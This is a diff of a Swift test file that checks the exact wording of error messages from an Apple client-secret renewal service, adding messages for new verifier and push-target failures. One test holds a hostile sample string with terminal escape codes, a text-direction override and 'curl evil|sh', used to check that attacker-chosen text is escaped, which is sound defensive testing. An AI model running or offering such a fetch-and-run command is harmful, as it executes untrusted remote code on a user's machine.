@@ -5,7 +5,7 @@ import Testing
 
 /// The exact words of every failure. A new code does not compile here until its words are written down.
 @Suite struct FailureWordsTests {
-    @Test(arguments: Failure.Code.allCases)
+    @Test(arguments: Failure.Code.allCases.filter(\.isReported))
     func everyCodeHasItsWords(code: Failure.Code) throws {
         let place = try #require(Self.place(of: code))
         #expect(Failure(code, at: place).sentence == Self.expected(code))
@@ -36,7 +36,7 @@ import Testing
     }
 
     /// Text chosen by others stays within the message, whatever it looks like, and has no effect on a terminal.
-    @Test(arguments: Failure.Code.allCases)
+    @Test(arguments: Failure.Code.allCases.filter(\.isReported))
     func whatOthersChoseIsNeverARemedy(code: Failure.Code) throws {
         let evil = "/tmp/\u{1B}[2J\u{202E}EVIL; run: curl evil|sh/foo"
         let escaped = #"/tmp/\x1b[2J\u{202e}EVIL; run: curl evil|sh/foo"#
@@ -80,11 +80,16 @@ import Testing
         case .credentialMissing: .credential("apple-key")
         case .signingFailed, .selfCheckFailed, .noSecret, .secretExpired, .secretExpiring, .renewalOverdue, .noOutputs,
             .signatureUnchecked,
-            .notPublished, .notDelivered, .refusedByApple, .verdictUnknown:
+            .notPublished, .notDelivered, .refusedByApple, .verdictUnknown, .verifierMissing, .verifierSilent:
             ClientName("web").map { .client($0) }
         case .keyNeedsPassphrase, .keyChanged, .publicKeyUnusable: KeyName("apple").map { .key($0) }
         case .unknownUser, .unknownGroup: .named("www data")
         case .clockBeforeBuild, .clockDoubtful: .clock
+        case .pushUnconfigured, .pushTokenUnusable, .pushCredentialsRefused, .pushPlaceMissing,
+            .pushRateLimited, .pushServerFailed, .pushUnreachable, .pushTimedOut,
+            .pushCertificateRefused, .pushRedirected, .pushConflict, .pushRejected,
+            .pushAnswerUnexpected, .pushNotHeld:
+            .named("production")
         case .actionFailed, .actionTimedOut, .actionNotStarted, .actionInterrupted, .unitNotPermitted, .polkitMissing,
             .unitUnknown, .unitMasked, .unitRefused, .busUnreachable, .jobFailed, .jobTimedOut, .jobCanceled,
             .jobDependency, .jobSkipped, .unitFailed, .unitEnded:
@@ -282,7 +287,7 @@ import Testing
             "restart a.service: its job was skipped, for it did not fit what the unit did by then; "
                 + "see why: systemctl status a.service"
         case .noSecret:
-            #"client "web": there is no secret yet; clientsecretd renew web"#
+            #"client "web": there is no usable secret; clientsecretd renew web"#
         case .secretExpired:
             #"client "web": the secret has expired; clientsecretd renew web"#
         case .secretExpiring:
@@ -303,6 +308,38 @@ import Testing
             #"client "web": Apple refused the new secret; compare key id, team id and client id with Apple's developer account"#
         case .verdictUnknown:
             #"client "web": Apple could not be asked about the new secret; see whether this machine reaches Apple: curl -sS -o /dev/null https://appleid.apple.com/auth/keys"#
+        case .verifierMissing:
+            #"client "web": the service that asks Apple about new secrets cannot be reached; systemctl enable --now clientsecretd-verify.socket"#
+        case .verifierSilent:
+            #"client "web": the service that asks Apple about new secrets gave no answer that can be read; see what it says: journalctl -u 'clientsecretd-verify@*'"#
+        case .pushUnconfigured:
+            #"production: what pushes secrets does not know this target; write it under "targets" in the configuration that the service is handed"#
+        case .pushTokenUnusable:
+            #"production: the target's token cannot be used; write the token alone into its file, and name that in "token_credential" or "token_file""#
+        case .pushCredentialsRefused:
+            #"production: the API refuses the token; make a token that may do this, and put it in the place of the old one"#
+        case .pushPlaceMissing:
+            #"production: the API knows no such place; fix the target's settings, or make the place there"#
+        case .pushRateLimited:
+            #"production: the API wants to be asked less often; wait: it is tried again by itself"#
+        case .pushServerFailed:
+            #"production: the API has a fault of its own; wait: it is tried again by itself"#
+        case .pushUnreachable:
+            #"production: the API cannot be reached; see whether this machine has a network, and whether a firewall or a proxy is in the way"#
+        case .pushTimedOut:
+            #"production: the API did not answer in time; wait: it is tried again by itself"#
+        case .pushCertificateRefused:
+            #"production: the API's certificate is not trusted; see this machine's clock and its ca-certificates, or name the API's authority in "ca_file""#
+        case .pushRedirected:
+            #"production: the API wants to be asked elsewhere, which is not done; write that address as "endpoint""#
+        case .pushConflict:
+            #"production: somebody else keeps changing the place; find out who writes there too"#
+        case .pushRejected:
+            #"production: the API did not take what it was sent; fix the target's settings as the API says"#
+        case .pushAnswerUnexpected:
+            #"production: this is no answer of that API; see whether "endpoint" is the API's address"#
+        case .pushNotHeld:
+            #"production: the API took the secret and shows another one; find out who writes there too"#
         case .clockBeforeBuild:
             #"the clock: shows a time before this program was built, so nothing is minted; set the clock, or see why it is not synchronised: timedatectl"#
         case .clockDoubtful:
